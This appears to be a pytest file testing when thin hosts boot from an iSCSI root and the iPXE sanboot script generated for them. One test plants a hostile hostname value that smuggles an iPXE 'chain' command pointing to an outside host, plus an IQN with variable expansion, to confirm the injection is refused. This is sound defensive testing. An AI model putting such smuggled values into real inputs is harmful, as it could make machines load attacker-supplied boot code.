"""When a thin host boots from its iSCSI root (boot.decide.sanboot_target), and the script it
gets (ipxe/sanboot.ipxe): a table of cases, a golden file, and the script run in real iPXE."""

from __future__ import annotations

import os
import re
from dataclasses import replace
from pathlib import Path

import pytest
from test_decide import GOLDEN, inputs

from hps_api.boot import decide as d
from hps_api.boot.flow import answer, script_of
from hps_api.errors import InvalidInput

IQN = "iqn.2026-11.default:sch-001.root0"
ROOT = f"10.31.0.2:3260:{IQN}"
CLUSTER = {"NAME": "default", "CREATED": "2026-11-21T10:00:00Z"}


def thin(state: str = "NETWORK_BOOT", cluster: dict[str, str] | None = None,
         **host: str) -> d.BootInputs:
    return inputs(state, "TCH", {**CLUSTER, **(cluster or {})}, **host)


@pytest.mark.parametrize(("case", "action"), [
    (thin(ISCSI_ROOT_0=ROOT, TCH_ROOT="iscsi"), "sanboot"),
    (thin(cluster={"TCH_ROOT": "iscsi"}, ISCSI_ROOT_0=ROOT), "sanboot"),
    (thin(cluster={"TCH_ROOT": "ISCSI"}, ISCSI_ROOT_0=f"10.31.0.2:{IQN}"), "sanboot"),
    (thin("CONFIGURED", ISCSI_ROOT_0=ROOT, TCH_ROOT="iscsi"), "sanboot"),
    (thin("REINSTALL", ISCSI_ROOT_0=ROOT, TCH_ROOT="iscsi"), "sanboot"),
    (thin(ISCSI_ROOT_0=ROOT), "netboot"),  # no TCH_ROOT: the diskless boot, unchanged
    (thin(cluster={"TCH_ROOT": "iscsi"}, ISCSI_ROOT_0=ROOT, TCH_ROOT="netboot"), "netboot"),
    (thin(TCH_ROOT="iscsi"), "netboot"),  # no disk yet
    (thin(TCH_ROOT="iscsi", ISCSI_ROOT_0="garbage"), "netboot"),
    (thin(ISCSI_ROOT_0=ROOT, TCH_ROOT="iscsi", RESCUE="yes"), "rescue"),
    (inputs("INSTALLED", "SCH", CLUSTER, ISCSI_ROOT_0=ROOT, TCH_ROOT="iscsi"), "localboot"),
    (inputs("CONFIGURED", "SCH", CLUSTER, ISCSI_ROOT_0=ROOT, TCH_ROOT="iscsi"), "install"),
])
def test_a_thin_host_sanboots_only_with_tch_root_iscsi_and_a_root(case: d.BootInputs,
                                                                  action: str) -> None:
    assert d.decide(case).action == action


def test_the_sanboot_decision_says_why_and_moves_to_network_boot() -> None:
    decision = d.decide(thin("CONFIGURED", ISCSI_ROOT_0=ROOT, TCH_ROOT="iscsi"))
    assert dict(decision.changes) == {"STATE": "NETWORK_BOOT"}
    assert decision.reason == f"CONFIGURED: unattended install of TCH: boot the iSCSI root {IQN}"
    assert dict(d.decide(thin(ISCSI_ROOT_0=ROOT, TCH_ROOT="iscsi")).changes) == {}


def test_the_sanboot_needs_no_os_record() -> None:
    case = thin(ISCSI_ROOT_0=ROOT, TCH_ROOT="iscsi")
    no_os = d.BootInputs(**{**case.__dict__, "os": None, "os_id": None})
    assert d.decide(no_os).action == "sanboot"


def test_the_script_sets_the_hosts_initiator_then_sanboots_lun_1_of_its_target() -> None:
    script = script_of(d.decide(thin(ISCSI_ROOT_0=ROOT, TCH_ROOT="iscsi")))
    lines = script.splitlines()
    assert lines[0] == "#!ipxe"
    initiator = lines.index("set initiator-iqn iqn.2026-11.default:sch-001.initiator")
    boot = lines.index(f"sanboot iscsi:10.31.0.2::3260:1:{IQN} || goto failed")
    assert initiator < boot
    assert lines[-1].startswith("chain --replace --autofree http://10.99.0.1:8080/cgi-bin/"
                                "boot_manager.sh?cmd=init&mac=525400aabb01 ")


def test_a_value_that_would_be_script_falls_back_to_the_menu_saying_why() -> None:
    plain = thin(ISCSI_ROOT_0=ROOT, TCH_ROOT="iscsi")
    hostile = replace(plain, host={**plain.host, "HOSTNAME": "x ; chain http://10.66.6.6/"})
    decision, script = answer(hostile)
    assert decision.action == "menu"
    assert "the sanboot script cannot be built" in script
    assert "x ; chain" not in script
    with pytest.raises(InvalidInput):
        script_of(d.sanboot(plain, d.storage.IscsiRoot("10.31.0.2", 3260, "iqn.x ${y}"), "r"))


def test_golden_sanboot_script() -> None:
    """Update deliberately: HPS_UPDATE_GOLDEN=1 rewrites the file; review the diff."""
    script = script_of(d.decide(thin(ISCSI_ROOT_0=ROOT, TCH_ROOT="iscsi")))
    path = GOLDEN / "sanboot.ipxe"
    if os.environ.get("HPS_UPDATE_GOLDEN") == "1":
        path.write_text(script)
    assert script == path.read_text()


@pytest.mark.slow
def test_real_ipxe_runs_the_script_to_its_failure_branch_without_a_network(
        tmp_path: Path) -> None:
    """No NIC: the sanboot fails, so every line before it parsed and ran, and the failure
    branch is reached (the lab test, tests/test_storage_lab.py, boots a real target)."""
    from test_ipxe_injection import run_in_ipxe

    script = script_of(d.decide(thin(ISCSI_ROOT_0=ROOT, TCH_ROOT="iscsi")))
    lines = run_in_ipxe(script.replace("sleep 30", "echo HPS-SANBOOT-FAILED-END"),
                        "HPS-SANBOOT-FAILED-END", tmp_path)
    text = "".join(lines)  # the console wraps long lines at 80 columns
    assert f"boots its iSCSI root {IQN} from 10.31.0.2:3260" in text, text[-2000:]
    assert re.search(rf"the iSCSI root {re.escape(IQN)} did not boot", text), text[-2000:]


def test_without_created_the_initiator_keeps_its_disks_month() -> None:
    case = thin(ISCSI_ROOT_0=ROOT, TCH_ROOT="iscsi")
    later = replace(case, cluster={k: v for k, v in case.cluster.items() if k != "CREATED"},
                    now="2027-05-01T00:00:00Z")
    context = d.decide(later).context
    assert context["initiator_iqn"] == "iqn.2026-11.default:sch-001.initiator"
